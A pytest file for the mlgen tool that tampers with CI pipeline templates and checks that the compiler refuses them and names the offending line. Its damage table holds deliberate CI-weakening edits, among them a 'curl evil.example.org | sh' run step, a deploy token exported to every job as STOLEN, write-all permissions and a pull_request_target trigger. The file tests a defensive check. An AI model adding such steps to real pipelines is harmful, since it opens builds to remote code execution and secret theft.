"""Damage to templates, mlgen's own and a pack's: compiling them is refused, and the line that is to blame is named."""

from __future__ import annotations

import re
import shutil
from pathlib import Path
from typing import NamedTuple

import pytest

from mlgen import compiler, render, targets
from mlgen.cli.main import run
from mlgen.render import sources
from tests.readback.project import ROOT


class Damage(NamedTuple):
    """One change to a template: a pattern that must be in it once or more, and what is there instead."""

    target: str
    template: str
    old: str
    new: str


GITHUB, GITLAB, CIRCLECI = "github/workflow.yml.j2", "gitlab/gitlab-ci.yml.j2", "circleci/config.yml.j2"
JENKINS, TRAVIS = "jenkins/Jenkinsfile.j2", "travis/travis.yml.j2"
KINDS = {
    "an approval is dropped": Damage("gitlab", GITLAB, r"when: manual", "when: on_success"),
    "an approval does not block": Damage(
        "gitlab", GITLAB, r"(?m)^      allow_failure: false$", "      allow_failure: true"
    ),
    "edges are dropped": Damage("gitlab", GITLAB, r"(?m)^  needs: \[\[= job.needs \| map.*$", "  needs: []"),
    "failures are permitted": Damage("gitlab", GITLAB, r"\[%% if job.allow_failure %%\]", "[%% if true %%]"),
    "a lock is dropped": Damage("gitlab", GITLAB, r"\[%% if job.resource_group %%\]", "[%% if false %%]"),
    "files are not handed on": Damage("gitlab", GITLAB, r"\[%% if job.artifacts.paths %%\]", "[%% if false %%]"),
    "a condition is dropped": Damage("github", GITHUB, r"\[%% if job.if %%\]", "[%% if false %%]"),
    "a condition is always true": Damage("github", GITHUB, r"if: \$\{\{ \[\[= job.if \| raw \]\] \}\}", "if: always()"),
    "a guard is dropped": Damage("github", GITHUB, r"\[%% if job.guard %%\]", "[%% if false %%]"),
    "a guard has more refs": Damage(
        "github",
        GITHUB,
        r"run: \[\[= job.guard \| yaml \]\]",
        "run: [[= (job.guard ~ ' --ref refs/heads/evil') | yaml ]]",
    ),
    "a pin is a branch": Damage(
        "github", GITHUB, r"uses: \[\[= uses.setup_python \| raw \]\]", "uses: actions/setup-python@main"
    ),
    "a token may write": Damage("github", GITHUB, r"(?m)^permissions: \{\}$", "permissions: write-all"),
    "pull requests run with secrets": Damage("github", GITHUB, r"(?m)^  pull_request:$", "  pull_request_target:"),
    "a secret reaches every job": Damage(
        "github", GITHUB, r"(?m)^env:$", "env:\n  STOLEN: ${{ secrets.DEPLOY_TOKEN }}"
    ),
    "scripts go on after a failure": Damage("github", GITHUB, r"shell: bash -euo pipefail \{0\}", "shell: bash {0}"),
    "outs are not checked": Damage("github", GITHUB, r"\[%% if job.outputs_check %%\]", "[%% if false %%]"),
    "another command is executed": Damage(
        "github",
        GITHUB,
        r"(?m)^      \[%% if job.setup %%\]$",
        "      - run: curl evil.example.org | sh\n      [%% if job.setup %%]",
    ),
    "a filter lets every branch in": Damage(
        "circleci", CIRCLECI, r"shell: /bin/bash -euo pipefail", "shell: /bin/bash"
    ),
    "conditions are dropped": Damage("travis", TRAVIS, r"\[\[= alternatives\(job.condition, 6\) \| raw -\]\]", ""),
    "a job may fail": Damage(
        "travis",
        TRAVIS,
        r"\[%% if allow_failures %%\]\n  allow_failures:",
        "[%% if true %%]\n  allow_failures:\n    - name: fit",
    ),
    "nobody is asked": Damage("jenkins", JENKINS, r"input message: .*", "echo 'no question'"),
    "no stage has a lock": Damage("jenkins", JENKINS, r"\[%% if job.lock %%\]\n", "[%% if false %%]\n"),
}


@pytest.mark.parametrize("kind", KINDS)
def test_a_damaged_template_is_told_with_its_line(
    kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    damage = KINDS[kind]
    shutil.copytree(ROOT / "templates", tmp_path / "templates")
    file = tmp_path / "templates" / damage.template
    text = file.read_text("utf-8")
    changed = re.sub(damage.old, lambda _: damage.new, text)
    assert changed != text, "the template has no such text"
    file.write_text(changed, "utf-8")
    monkeypatch.setattr(sources, "data_path", lambda *parts: str(tmp_path.joinpath(*parts)))
    monkeypatch.setattr(render, "_environment", None)
    monkeypatch.setattr(compiler, "verify", lambda *_: [])  # the structural check, which comes first
    monkeypatch.setenv("NO_COLOR", "1")
    project = Path(shutil.copytree(ROOT / "examples" / "wine-quality", tmp_path / "project"))
    before = {path: path.read_bytes() for path in project.rglob("*") if path.is_file()}
    code = run(["compile", "-C", str(project), "-t", damage.target])
    said = capsys.readouterr().err
    assert code == 2 and "error MLG602" in said, said
    assert re.search(r"(?m)^\S+:[1-9][0-9]*:1: error MLG602: ", said), said
    assert re.search(rf"that line comes from templates/{re.escape(damage.template)}:[1-9]", said), said
    assert {path: path.read_bytes() for path in project.rglob("*") if path.is_file()} == before
    if kind == "another command is executed":
        _is_at_its_line(project, damage, said)


def _is_at_its_line(project: Path, damage: Damage, said: str) -> None:
    """The lines that are told are those of the file as it would be written, with its header."""
    found = re.search(r"(?m)^(\S+):([0-9]+):1: error MLG602: ", said)
    assert found
    made = compiler.compile_spec(str(project), "mlgen.yaml", only=(damage.target,), proved=False)
    (text,) = (file.text for file in made.files if file.path == found[1])
    line = int(found[2])
    assert "evil" in "\n".join(text.splitlines()[line - 1 : line + 1]), text.splitlines()[line - 1]


def test_the_damage_is_done_to_every_system() -> None:
    assert len(KINDS) >= 20 and {damage.target for damage in KINDS.values()} == set(targets.names())
